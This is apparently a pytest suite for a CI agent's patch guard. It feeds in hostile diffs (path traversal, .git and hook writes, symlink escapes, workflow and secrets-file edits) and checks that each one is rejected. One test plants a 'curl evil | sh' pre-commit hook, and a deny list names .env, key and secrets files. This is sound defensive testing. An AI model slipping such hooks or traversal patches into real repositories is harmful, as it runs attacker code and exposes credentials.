"""Hostile patches: each is rejected by the right rule, before git sees it, tree untouched."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from ci_agent.config import PatchSettings
from ci_agent.patch import apply_patch
from tests.patch.conftest import BASE_FILES, Repo, make_repo


def new_file(path: str, body: str = "+x\n", header: str = "") -> str:
    return f"--- /dev/null\n+++ b/{path}\n{header}@@ -0,0 +1 @@\n{body}"


def edit(path: str) -> str:
    return f"--- a/{path}\n+++ b/{path}\n@@ -1 +1 @@\n-old\n+new\n"


def _hostile_repo(tmp_path: Path) -> tuple[Repo, Path]:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "target.txt").write_text("old\n")
    repo = make_repo(tmp_path / "repo", {**BASE_FILES, "bin/run.sh": "#!/bin/sh\nold\n"})
    os.symlink(outside, repo.path / "escape_dir")
    os.symlink(outside / "target.txt", repo.path / "escape_file")
    os.symlink("src/App", repo.path / "inner_dir")
    repo.commit_all("symlinks")
    return repo, outside


@pytest.fixture
def hostile_repo(tmp_path: Path) -> tuple[Repo, Path]:
    return _hostile_repo(tmp_path)


@pytest.fixture(scope="module")
def shared_hostile_repo(tmp_path_factory: pytest.TempPathFactory) -> tuple[Repo, Path]:
    """One repo for the whole table: every case must leave it untouched, which is the point."""
    return _hostile_repo(tmp_path_factory.mktemp("hostile"))


CASES: list[tuple[str, str, str]] = [
    ("dotdot", edit("../outside/target.txt"), "path.traversal"),
    ("dotdot-nested", "--- a/src/../../outside/target.txt\n+++ b/src/../../outside/target.txt\n"
     "@@ -1 +1 @@\n-old\n+new\n", "path.traversal"),
    ("a-prefix-dotdot", "--- a/../../x\n+++ b/../../x\n@@ -1 +1 @@\n-old\n+new\n", "path.traversal"),
    ("absolute", "--- /etc/hosts\n+++ /etc/hosts\n@@ -1 +1 @@\n-old\n+new\n", "path.absolute"),
    ("absolute-b-prefixed", new_file("/tmp/evil"), "path.absolute"),
    ("windows-drive", edit("C:/Windows/win.ini"), "path.absolute"),
    ("git-config", edit(".git/config"), "path.git_dir"),
    ("git-hook", new_file(".git/hooks/pre-commit", "+#!/bin/sh\n"), "path.git_dir"),
    ("git-upper", edit(".GIT/config"), "path.git_dir"),
    ("git-nested", edit("vendor/lib/.git/config"), "path.git_dir"),
    ("git-trailing-dot", edit(".git./config"), "path.git_dir"),
    ("git-short-name", edit("GIT~1/config"), "path.git_dir"),
    ("git-zero-width", edit(".g\u200cit/config"), "path.git_dir"),
    ("git-backslash", edit(".git\\config"), "path.invalid"),
    ("git-in-diff-git-line-only", "diff --git a/.git/config b/.git/config\n--- a/README.md\n"
     "+++ b/README.md\n@@ -1 +1 @@\n-# demo\n+# x\n", "path.git_dir"),
    ("rename-from-git", "diff --git a/.git/config b/cfg\nsimilarity index 100%\nrename from .git/config\n"
     "rename to cfg\n", "path.git_dir"),
    ("control-char", 'diff --git "a/x\\ny" "b/x\\ny"\n--- "a/x\\ny"\n+++ "b/x\\ny"\n@@ -1 +1 @@\n-a\n+b\n',
     "path.invalid"),
    ("not-utf8-name", 'diff --git "a/\\377" "b/\\377"\n--- "a/\\377"\n+++ "b/\\377"\n@@ -1 +1 @@\n-a\n+b\n',
     "path.invalid"),
    ("symlink-create", "diff --git a/link b/link\nnew file mode 120000\n--- /dev/null\n+++ b/link\n"
     "@@ -0,0 +1 @@\n+/etc/passwd\n\\ No newline at end of file\n", "file.symlink"),
    ("symlink-dir-escape", new_file("escape_dir/planted.txt"), "path.symlink_escape"),
    ("symlink-file-escape", edit("escape_file"), "path.symlink_escape"),
    ("symlink-dir-inside", edit("inner_dir/Calc.cs"), "path.symlink"),
    ("submodule", "diff --git a/sub b/sub\nnew file mode 160000\nindex 0000000..1234567\n--- /dev/null\n"
     "+++ b/sub\n@@ -0,0 +1 @@\n+Subproject commit 1234567890123456789012345678901234567890\n",
     "file.submodule"),
    ("binary-literal", "diff --git a/logo.png b/logo.png\nnew file mode 100644\nindex 0000000..1111111\n"
     "GIT binary patch\nliteral 4\nLcmZ?wbYK7g0RR91\n\nliteral 0\nHcmV?d00001\n\n", "file.binary"),
    ("binary-differ", "diff --git a/logo.png b/logo.png\nindex 1111111..2222222 100644\n"
     "Binary files a/logo.png and b/logo.png differ\n", "file.binary"),
    ("mode-flip", "diff --git a/bin/run.sh b/bin/run.sh\nold mode 100644\nnew mode 100755\n",
     "file.mode_change"),
    ("new-executable", new_file("bin/evil.sh", header="").replace("--- /dev/null",
     "diff --git a/bin/evil.sh b/bin/evil.sh\nnew file mode 100755\n--- /dev/null"), "file.mode_change"),
    ("copy", "diff --git a/src/App/Calc.cs b/leak.cs\nsimilarity index 100%\ncopy from src/App/Calc.cs\n"
     "copy to leak.cs\n", "file.copy"),
    ("workflow", new_file(".github/workflows/ci.yml", "+on: push\n"), "path.denied"),
    ("workflow-case", new_file(".GitHub/Workflows/ci.yml", "+on: push\n"), "path.denied"),
    ("gitlab-ci", edit(".gitlab-ci.yml"), "path.denied"),
    ("gitlab-dir", new_file(".gitlab/ci/deploy.yml"), "path.denied"),
    ("ci-agent-config", new_file(".ci-agent.yml", "+patch: {max_files: 999}\n"), "path.denied"),
    ("dotenv", new_file("deploy/.env.production"), "path.denied"),
    ("pem", new_file("certs/server.pem"), "path.denied"),
    ("key", new_file("id_rsa.key"), "path.denied"),
    ("secrets-dir", new_file("config/secrets/db.json"), "path.denied"),
    ("deletion", "--- a/README.md\n+++ /dev/null\n@@ -1 +0,0 @@\n-# demo\n", "file.deletion"),
    ("rename", "diff --git a/README.md b/docs/README.md\nsimilarity index 100%\nrename from README.md\n"
     "rename to docs/README.md\n", "file.rename"),
    ("implicit-rename", "--- a/README.md\n+++ b/NOTES.md\n@@ -1 +1 @@\n-# demo\n+# notes\n", "file.rename"),
    ("duplicate", edit("README.md") + edit("README.md"), "patch.duplicate_file"),
    ("too-many-files", "".join(new_file(f"src/f{n}.txt") for n in range(11)), "size.files"),
    ("too-many-lines", "--- /dev/null\n+++ b/big.txt\n@@ -0,0 +1,201 @@\n" + "+x\n" * 201, "size.lines"),
    ("empty", "I could not find the problem, sorry.", "patch.empty"),
    ("malformed-hunk", "--- a/README.md\n+++ b/README.md\n@@ -x +y @@\n-# demo\n", "patch.malformed"),
    ("too-large", "--- a/README.md\n+++ b/README.md\n@@ -1 +1 @@\n-# demo\n+" + "x" * 1_000_001 + "\n",
     "patch.too_large"),
]


@pytest.mark.parametrize(("patch", "rule"), [(p, r) for _, p, r in CASES], ids=[c[0] for c in CASES])
def test_hostile_patch_rejected_and_tree_untouched(
    shared_hostile_repo: tuple[Repo, Path], patch: str, rule: str
) -> None:
    repo, outside = shared_hostile_repo
    before = repo.snapshot()
    outside_before = sorted((p.name, p.read_bytes()) for p in outside.iterdir())
    verdict = apply_patch(patch, repo.path, PatchSettings())
    assert not verdict.ok
    assert rule in [r.rule for r in verdict.rejections], verdict.rejections
    assert all(r.message for r in verdict.rejections)
    assert repo.snapshot() == before
    assert sorted((p.name, p.read_bytes()) for p in outside.iterdir()) == outside_before
    assert not (repo.path.parent / "x").exists()


def test_real_binary_and_mode_diffs_from_git(hostile_repo: tuple[Repo, Path]) -> None:
    repo, _ = hostile_repo
    repo.write("logo.png", bytes(range(256)))
    (repo.path / "bin" / "run.sh").chmod(0o755)
    repo.git("add", "-A")
    text = repo.git("diff", "--cached", "--binary")
    repo.git("reset", "-q", "--hard")
    repo.git("clean", "-qfd")
    (repo.path / "bin" / "run.sh").chmod(0o644)
    before = repo.snapshot()
    verdict = apply_patch(text, repo.path, PatchSettings())
    rules = {(r.rule, r.path) for r in verdict.rejections}
    assert {("file.binary", "logo.png"), ("file.mode_change", "bin/run.sh")} <= rules
    assert repo.snapshot() == before


def test_hooks_path_inside_repo_is_protected(hostile_repo: tuple[Repo, Path]) -> None:
    repo, _ = hostile_repo
    repo.git("config", "core.hooksPath", ".husky")
    verdict = apply_patch(new_file(".husky/pre-commit", "+curl evil | sh\n"), repo.path, PatchSettings())
    assert [r.rule for r in verdict.rejections] == ["path.hooks"]


def test_config_deny_and_allow_lists(hostile_repo: tuple[Repo, Path]) -> None:
    repo, _ = hostile_repo
    patch = new_file("docs/notes.md")
    denied = apply_patch(patch, repo.path, PatchSettings(deny=("docs/**",)))
    assert [r.rule for r in denied.rejections] == ["path.denied"]
    assert "patch.deny" in denied.rejections[0].message
    outside_allow = apply_patch(patch, repo.path, PatchSettings(allow=("src/**", "tests/**")))
    assert [r.rule for r in outside_allow.rejections] == ["path.not_allowed"]
    # allow globs match exactly: a case variant does not sneak in
    assert not apply_patch(new_file("SRC/x.cs"), repo.path, PatchSettings(allow=("src/**",))).ok
    assert apply_patch(patch, repo.path, PatchSettings(allow=("docs/*.md",))).ok


def test_default_deny_can_be_turned_off_but_git_dir_never(hostile_repo: tuple[Repo, Path]) -> None:
    repo, _ = hostile_repo
    settings = PatchSettings(use_default_deny=False)
    assert apply_patch(new_file(".github/workflows/ci.yml", "+on: push\n"), repo.path, settings).ok
    assert not apply_patch(edit(".git/config"), repo.path, settings).ok
    own_config = apply_patch(new_file(".ci-agent.yml", "+patch: {max_files: 99}\n"), repo.path, settings)
    assert [r.rule for r in own_config.rejections] == ["path.denied"]


def test_symlink_patch_through_git_is_refused_too(hostile_repo: tuple[Repo, Path]) -> None:
    """Belt and braces: git itself also refuses to write beyond a symlink (our rule is first)."""
    repo, _ = hostile_repo
    done = subprocess.run(["git", "apply", "--check", "-"], cwd=repo.path, text=True, capture_output=True,
                          input="diff --git a/escape_dir/p b/escape_dir/p\nnew file mode 100644\n"
                          "--- /dev/null\n+++ b/escape_dir/p\n@@ -0,0 +1 @@\n+x\n", check=False)
    assert done.returncode != 0
    assert "beyond a symbolic link" in done.stderr
